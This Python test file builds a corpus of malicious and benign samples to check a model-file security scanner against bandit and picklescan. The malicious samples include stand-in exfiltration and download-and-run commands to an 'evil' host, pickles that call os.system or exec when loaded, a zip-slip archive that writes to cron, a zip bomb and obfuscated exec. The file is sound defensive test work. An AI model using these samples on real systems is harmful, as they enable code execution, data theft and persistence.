"""The static scan against bandit and picklescan, on a corpus this test builds.

Benign models come from the stock client (scikit-learn, saved as skops; a pyfunc from code; the
submission template's own `make_submission.py`) and from near-miss code that looks dangerous but is
not. Malicious files are pickles whose `__reduce__` reaches os.system, builtins.exec and
subprocess.Popen (one hidden in a PyTorch-style zip), code for every rule, obfuscated exec, a zip-slip
archive, a zip bomb and a requirements file with a known-vulnerable pin.

`harvester scan` must flag every malicious item at high severity, leave every benign one without a
medium or high finding, flag every line bandit flags in the malicious code and every file picklescan
flags; bandit's findings on the benign code are printed as the false positives Harvester avoids.
The corpus does not depend on the store, so it runs once, in the SQLite/local pass.
"""

import json
import os
import pickle
import shutil
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest

ROOT = Path(__file__).resolve().parent.parent
BIN = os.environ.get("HARVESTER_BIN", str(ROOT / "target/debug/harvester"))
VENV_BIN = Path(sys.executable).parent

pytestmark = pytest.mark.skipif(
    bool(os.environ.get("HARVESTER_COMPAT_STORE_URI") or os.environ.get("HARVESTER_COMPAT_ARTIFACTS")),
    reason="the scan corpus does not depend on the store: run once, on SQLite with local artifacts",
)

# Each malicious code sample: one file, the rule Harvester must report, and the offending line last.
BAD_CODE = {
    "bad_eval.py": "user = input()\nresult = eval(user)\n",
    "bad_exec.py": "src = open('payload.txt').read()\nexec(src)\n",
    "bad_compile.py": "code = compile(src, '<x>', 'exec')\n",
    "bad_import.py": "name = 'o' + 's'\nmod = __import__(name)\n",
    "bad_importlib.py": "import importlib\nm = importlib.import_module(name)\n",
    "bad_getattr.py": "import builtins\nf = getattr(builtins, 'ev' + 'al')\n",
    "bad_system.py": "import os\nos.system('curl http://evil/x | sh')\n",
    "bad_popen.py": "import os\nout = os.popen('id').read()\n",
    "bad_subprocess.py": "import subprocess\nsubprocess.run('id', shell=True)\n",
    "bad_subprocess_list.py": "from subprocess import Popen\nPopen(['/bin/sh', '-c', 'id'])\n",
    "bad_exec_family.py": "import os\nos.execv('/bin/sh', ['sh'])\n",
    "bad_pty.py": "import pty\npty.spawn('/bin/sh')\n",
    "bad_socket.py": "import socket\ns = socket.create_connection(('evil', 4444))\n",
    "bad_urllib.py": "import urllib.request\nurllib.request.urlopen('http://evil/exfil')\n",
    "bad_requests.py": "import requests\nrequests.post('http://evil/exfil', data=b'x', timeout=5)\n",
    "bad_http_client.py": "import http.client\nc = http.client.HTTPSConnection('evil')\n",
    "bad_ftp.py": "import ftplib\nftplib.FTP('evil')\n",
    "bad_smtp.py": "import smtplib\nsmtplib.SMTP('evil')\n",
    "bad_pickle.py": "import pickle\nobj = pickle.loads(blob)\n",
    "bad_marshal.py": "import marshal\nco = marshal.loads(blob)\n",
    "bad_yaml.py": "import yaml\ncfg = yaml.load(text)\n",
    "bad_torch.py": "import torch\nstate = torch.load('weights.pt')\n",
    "bad_environ.py": "import os\nkey = os.environ['AWS_SECRET_ACCESS_KEY']\n",
    "bad_getenv.py": "import os\ntoken = os.getenv('MLFLOW_TRACKING_TOKEN')\n",
    "bad_ctypes.py": "import ctypes\nlibc = ctypes.CDLL('libc.so.6')\n",
    "bad_write.py": "with open('/etc/cron.d/job', 'w') as f:\n    f.write('* * * * * root sh /tmp/x')\n",
    "bad_obfuscated.py": "import base64\nexec(base64.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImlkIik='))\n",
    "bad_obfuscated_zlib.py": "import zlib, codecs\np = zlib.decompress(codecs.decode(blob, 'hex'))\neval(p)\n",
    "bad_alias.py": "from os import system as run_it\nrun_it('id')\n",
}

# Near misses: look like the rules, are not findings.
NEAR_MISSES = {
    "near_torch_eval.py": "import torch\nmodel = torch.nn.Linear(2, 1)\nmodel.eval()\n",
    "near_df_eval.py": "import pandas as pd\ndf = pd.DataFrame({'a': [1], 'b': [2]})\ndf.eval('c = a + b', inplace=True)\n",
    "near_names.py": "exec_time = 3.5\neval_set = [1, 2]\nsystem_prompt = 'be kind'\nprint(exec_time, eval_set, system_prompt)\n",
    "near_shadowed_eval.py": "def eval(expr):\n    return len(expr)\n\nprint(eval('abc'))\n",
    "near_yaml_safe.py": "import yaml\ncfg = yaml.load(text, Loader=yaml.SafeLoader)\nother = yaml.safe_load(text)\n",
    "near_torch_weights.py": "import torch\nstate = torch.load('weights.pt', weights_only=True)\n",
    "near_literal_import.py": "import importlib\njson = importlib.import_module('json')\n",
    "near_local_write.py": "import os\nwith open(os.path.join('out', 'preds.csv'), 'w') as f:\n    f.write('a')\n",
    "near_decode_print.py": "import base64\nprint(base64.b64decode('aGk='))\n",
    "near_tmp_read.py": "data = open('/tmp/input.csv').read()\n",
    "near_md5.py": "import hashlib\nkey = hashlib.md5(b'cache').hexdigest()\n",
}


class Reduce:
    def __init__(self, fn, args):
        self.fn, self.args = fn, args

    def __reduce__(self):
        return (self.fn, self.args)


def build_corpus(base: Path) -> dict:
    """Write the corpus; returns {item: "benign" | "malicious"} for its top-level items."""
    kinds = {}
    code = base / "code"
    code.mkdir(parents=True)
    for name, src in {**BAD_CODE, **NEAR_MISSES}.items():
        (code / name).write_text(src)
        kinds[f"code/{name}"] = "malicious" if name.startswith("bad_") else "benign"
    pk = base / "pickles"
    pk.mkdir()
    (pk / "evil_os_system.pkl").write_bytes(pickle.dumps(Reduce(os.system, ("id",))))
    (pk / "evil_exec.pkl").write_bytes(pickle.dumps(Reduce(exec, ("import os",)), protocol=2))
    (pk / "evil_popen.pkl").write_bytes(pickle.dumps(Reduce(subprocess.Popen, (["id"],)), protocol=4))
    with zipfile.ZipFile(pk / "evil_checkpoint.pt", "w") as z:
        z.writestr("archive/data.pkl", pickle.dumps({"state": Reduce(os.system, ("id",))}, protocol=2))
        z.writestr("archive/version", "3\n")
    (pk / "benign_state.pkl").write_bytes(pickle.dumps({"weights": [0.1, 0.2], "classes": ("a", "b")}))
    for p in pk.iterdir():
        kinds[f"pickles/{p.name}"] = "benign" if p.name.startswith("benign") else "malicious"
    ar = base / "archives"
    ar.mkdir()
    with zipfile.ZipFile(ar / "slip.zip", "w") as z:
        z.writestr("../../../etc/cron.d/evil", "* * * * * root id\n")
    with zipfile.ZipFile(ar / "bomb.zip", "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("zeros.bin", b"\0" * (64 << 20))
    kinds["archives/slip.zip"] = kinds["archives/bomb.zip"] = "malicious"
    dep = base / "deps"
    dep.mkdir()
    (dep / "requirements.txt").write_text("numpy==2.2.6\ntorch==2.5.1\n")
    kinds["deps/requirements.txt"] = "malicious"
    models = base / "models"
    models.mkdir()
    make_models(models)
    for p in models.iterdir():
        kinds[f"models/{p.name}"] = "benign"
    return kinds


def make_models(models: Path) -> None:
    """Benign models, saved by the stock client and by the template (in a subprocess each)."""
    import mlflow
    import numpy as np
    from sklearn.linear_model import LogisticRegression

    X = np.random.default_rng(0).random((30, 3))
    y = (X[:, 0] > 0.5).astype(int)
    mlflow.sklearn.save_model(LogisticRegression().fit(X, y), str(models / "sklearn"), input_example=X[:2])
    code = models.parent / "pyfunc_code.py"
    code.write_text(
        "import mlflow\nfrom mlflow.pyfunc import PythonModel\n\n\nclass Doubler(PythonModel):\n"
        "    def predict(self, context, model_input, params=None):\n        return model_input * 2\n\n\n"
        "mlflow.models.set_model(Doubler())\n"
    )
    import pandas as pd

    mlflow.pyfunc.save_model(str(models / "pyfunc_from_code"), python_model=str(code), input_example=pd.DataFrame({"a": [1.0]}))
    code.unlink()
    kit = models.parent / "kit"
    subprocess.run([BIN, "template", "init", str(kit)], check=True, capture_output=True)
    subprocess.run([sys.executable, "make_submission.py"], cwd=kit, check=True, capture_output=True)
    shutil.move(str(kit / "submission.zip"), models / "template_submission.zip")
    shutil.rmtree(kit)


def harvester(path: Path) -> dict:
    r = subprocess.run([BIN, "scan", "--format", "json", str(path)], capture_output=True, text=True)
    assert r.returncode in (0, 1), r.stderr
    return json.loads(r.stdout)


def item_of(file: str, kinds: dict) -> str:
    top = file.split("!")[0].split(":")[0]
    return next((k for k in kinds if top == k or top.startswith(k + "/")), top)


def test_scan_corpus_against_bandit_and_picklescan(tmp_path, capsys):
    base = tmp_path / "corpus"
    kinds = build_corpus(base)
    report = harvester(base)
    findings = report["findings"]
    by_item = {}
    for f in findings:
        by_item.setdefault(item_of(f["file"], kinds), []).append(f)

    # Environment reads and writes outside the model are medium by policy; everything else is high.
    medium = {"code/bad_environ.py", "code/bad_getenv.py", "code/bad_write.py"}
    want = lambda k: ("high", "medium") if k in medium else ("high",)
    missed = [k for k, kind in kinds.items() if kind == "malicious" and not any(f["severity"] in want(k) for f in by_item.get(k, []))]
    assert not missed, f"malicious items without a finding of their severity: {missed}"
    noisy = {k: by_item[k] for k, kind in kinds.items() if kind == "benign" and any(f["severity"] != "low" for f in by_item.get(k, []))}
    assert not noisy, f"benign items flagged: {json.dumps(noisy, indent=1)}"
    for name, src in BAD_CODE.items():
        last = src.rstrip("\n").count("\n") + 1
        lines = {f["line"] for f in by_item.get(f"code/{name}", []) if f["severity"] != "low"}
        assert lines & {last, last - 1}, f"{name}: no finding on its offending line {last}: {by_item.get(f'code/{name}')}"

    # bandit, from PyPI: every line it flags in the malicious code is flagged by Harvester too.
    b = subprocess.run([str(VENV_BIN / "bandit"), "-r", "-q", "-f", "json", str(base / "code")], capture_output=True, text=True)
    bandit = json.loads(b.stdout)["results"]
    ours = {(f["file"], f["line"]) for f in findings if f.get("line")}
    uncovered, avoided = [], []
    for r in bandit:
        rel = os.path.relpath(r["filename"], base)
        hit = (rel, r["line_number"]) in ours
        if kinds.get(rel) == "malicious" and not hit:
            uncovered.append(f"{rel}:{r['line_number']} {r['test_id']} {r['issue_text']}")
        if kinds.get(rel) == "benign" and not hit:
            avoided.append(f"{rel}:{r['line_number']} {r['test_id']} ({r['issue_severity']}) {r['issue_text']}")
    assert not uncovered, "bandit flags lines Harvester does not:\n" + "\n".join(uncovered)
    bandit_bad = {os.path.relpath(r["filename"], base) for r in bandit if kinds.get(os.path.relpath(r["filename"], base)) == "malicious"}
    beyond = sorted(k for k, kind in kinds.items() if k.startswith("code/") and kind == "malicious" and k not in bandit_bad)

    # picklescan, from PyPI: every file it finds dangerous globals in, Harvester fails too.
    p = subprocess.run([str(VENV_BIN / "picklescan"), "-p", str(base)], capture_output=True, text=True)
    flagged = set()
    for line in p.stdout.splitlines():
        if "dangerous import" in line.lower() or "dangerous" in line.lower() and "FOUND" in line:
            flagged.add(item_of(os.path.relpath(line.split(":")[0].strip(), base), kinds))
    assert {"pickles/evil_os_system.pkl", "pickles/evil_exec.pkl", "pickles/evil_popen.pkl"} <= flagged, p.stdout
    for item in flagged:
        assert any(f["rule"].startswith("HV-PKL-") and f["severity"] == "high" for f in by_item.get(item, [])), f"picklescan flags {item}; Harvester does not"
    with capsys.disabled():
        print(f"\nscan corpus: {len(kinds)} items, {sum(v == 'malicious' for v in kinds.values())} malicious; "
              f"bandit {len(bandit)} findings, picklescan flagged {len(flagged)} files; Harvester {len(findings)} findings")
        print(f"  malicious code bandit does not flag, Harvester does: {', '.join(beyond) or 'none'}")
        print("  bandit's false positives on the near misses, avoided by Harvester:")
        for a in avoided:
            print(f"    {a}")
    assert avoided, "the near misses should include bandit false positives to compare"


def test_scan_cli_exit_codes(tmp_path):
    good = tmp_path / "good"
    good.mkdir()
    (good / "m.py").write_text("import numpy as np\nprint(np.zeros(3))\n")
    bad = tmp_path / "bad"
    bad.mkdir()
    (bad / "m.py").write_text("import os\nos.system('id')\n")
    assert subprocess.run([BIN, "scan", str(good)], capture_output=True).returncode == 0
    r = subprocess.run([BIN, "scan", str(bad)], capture_output=True, text=True)
    assert r.returncode == 1 and "B605" in r.stdout and "m.py:2" in r.stdout, r.stdout
    assert subprocess.run([BIN, "scan", str(tmp_path / "missing")], capture_output=True).returncode == 2
